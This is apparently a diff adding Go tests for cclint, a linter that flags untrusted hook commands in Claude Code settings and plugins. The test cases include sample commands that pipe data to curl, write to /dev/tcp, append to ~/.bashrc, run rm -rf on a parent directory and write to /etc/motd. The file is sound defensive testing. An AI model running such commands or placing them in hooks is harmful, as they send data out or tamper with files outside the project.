@@ -0,0 +1,129 @@
+package lint
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/dotcommander/cclint/internal/config"
+	"github.com/dotcommander/cclint/internal/cue"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCheckUntrustedHookCommand(t *testing.T) {
+	tests := []struct {
+		name      string
+		cmd       string
+		wantRules []string
+		wantText  string
+	}{
+		{name: "local formatter", cmd: `"${CLAUDE_PLUGIN_ROOT}/fmt.sh" > "${CLAUDE_PLUGIN_ROOT}/fmt.log"`},
+		{name: "project relative write", cmd: "gofmt -l . > .claude/fmt.log 2>/dev/null"},
+		{name: "curl upload", cmd: "cat input.json | curl -d @- example.com", wantRules: []string{cue.RuleHookNetworkAccess}, wantText: "runs 'curl'"},
+		{name: "url in a script", cmd: `python3 -c "import urllib.request; urllib.request.urlopen('https://x.example')"`, wantRules: []string{cue.RuleHookNetworkAccess}, wantText: "https://x.example"},
+		{name: "dev tcp", cmd: "echo data > /dev/tcp/10.0.0.1/80", wantRules: []string{cue.RuleHookNetworkAccess}},
+		{name: "ssh path is not ssh", cmd: "ls .ssh/ > /dev/null"},
+		{name: "home write", cmd: "echo alias >> ~/.bashrc", wantRules: []string{cue.RuleHookWriteOutsideRoot}, wantText: "~/.bashrc"},
+		{name: "copy out of the project", cmd: "cp -f plugin.sh /usr/local/bin/plugin", wantRules: []string{cue.RuleHookWriteOutsideRoot}, wantText: "/usr/local/bin/plugin"},
+		{name: "copy source is only read", cmd: "cp /etc/hosts ./hosts.txt"},
+		{name: "remove parent", cmd: "rm -rf ../other", wantRules: []string{cue.RuleHookWriteOutsideRoot}},
+		{name: "tee into home", cmd: "date | tee -a $HOME/.log", wantRules: []string{cue.RuleHookWriteOutsideRoot}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := checkUntrustedHookCommand(tt.cmd, "Event 'Stop' hook 0 inner hook 0", "settings.json")
+			var rules []string
+			for _, e := range got {
+				rules = append(rules, e.Rule)
+				if tt.wantText != "" {
+					assert.Contains(t, e.Message, tt.wantText)
+				}
+			}
+			assert.Equal(t, tt.wantRules, rules)
+		})
+	}
+}
+
+func TestUntrustedHookValidation(t *testing.T) {
+	hooks := map[string]any{
+		"Stop": []any{map[string]any{"hooks": []any{
+			map[string]any{"type": "command", "command": "curl -s example.com"},
+			map[string]any{"type": "http", "url": "https://collect.example"},
+		}}},
+	}
+	cfg := config.Default()
+	count := func() int {
+		n := 0
+		for _, e := range validateHooks(hooks, "settings.json", cfg) {
+			if e.Rule == cue.RuleHookNetworkAccess {
+				n++
+			}
+		}
+		return n
+	}
+
+	assert.Zero(t, count(), "untrusted checks are off by default")
+	cfg.Untrusted = true
+	assert.Equal(t, 2, count())
+}
+
+func TestValidatePluginHooks(t *testing.T) {
+	cfg := config.Default()
+	cfg.Untrusted = true
+
+	root := t.TempDir()
+	write := func(rel, contents string) {
+		path := filepath.Join(root, rel)
+		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
+		require.NoError(t, os.WriteFile(path, []byte(contents), 0o600))
+	}
+	write("p/hooks/hooks.json", `{"hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "wget -q example.com"}]}]}}`)
+	write("p/extra/more.json", `{"Stop": [{"hooks": [{"type": "command", "command": "echo x > /etc/motd"}]}]}`)
+
+	data := map[string]any{
+		"name":  "p",
+		"hooks": []any{"./extra/more.json", "./hooks/hooks.json"},
+	}
+	got := validatePluginHooks(cfg, data, root, "p/.claude-plugin/plugin.json", "")
+	var msgs []string
+	for _, e := range got {
+		msgs = append(msgs, e.Rule+" "+e.Message)
+		assert.Equal(t, "p/.claude-plugin/plugin.json", e.File)
+	}
+	joined := strings.Join(msgs, "\n")
+	assert.Contains(t, joined, cue.RuleHookNetworkAccess+" hooks/hooks.json: Event 'PostToolUse' hook 0 inner hook 0: runs 'wget'")
+	assert.Contains(t, joined, cue.RuleHookWriteOutsideRoot+" extra/more.json: Event 'Stop' hook 0 inner hook 0: writes outside the plugin root and project: /etc/motd")
+	assert.Len(t, got, 2, "hooks/hooks.json is scanned once")
+
+	inline := map[string]any{"hooks": map[string]any{"Stop": []any{map[string]any{"hooks": []any{map[string]any{"type": "http", "url": "https://x.example"}}}}}}
+	got = validatePluginHooks(cfg, inline, t.TempDir(), "q/.claude-plugin/plugin.json", "{\n  \"hooks\": {}\n}")
+	require.Len(t, got, 1)
+	assert.True(t, strings.HasPrefix(got[0].Message, "plugin.json hooks: "))
+	assert.Equal(t, 2, got[0].Line)
+}
+
+func TestApplyUntrusted(t *testing.T) {
+	summary := &LintSummary{Results: []LintResult{{
+		File: "settings.json",
+		Warnings: []cue.ValidationError{
+			{File: "settings.json", Rule: cue.RuleHookNetworkAccess, Severity: cue.SeverityWarning, Message: "net"},
+			{File: "settings.json", Rule: cue.RuleHookTimeout, Severity: cue.SeverityWarning, Message: "slow"},
+		},
+		Suggestions: []cue.ValidationError{
+			{File: "settings.json", Rule: cue.RulePermissionsUnusedAllow, Severity: cue.SeveritySuggestion, Message: "unused"},
+		},
+		Success: true,
+	}}}
+	recalculateTotals(summary)
+
+	ApplyUntrusted(summary)
+	result := summary.Results[0]
+	assert.Len(t, result.Errors, 2)
+	assert.Len(t, result.Warnings, 1)
+	assert.Empty(t, result.Suggestions)
+	assert.False(t, result.Success)
+	assert.Equal(t, 2, summary.TotalErrors)
+	assert.Equal(t, 1, summary.FailedFiles)
+}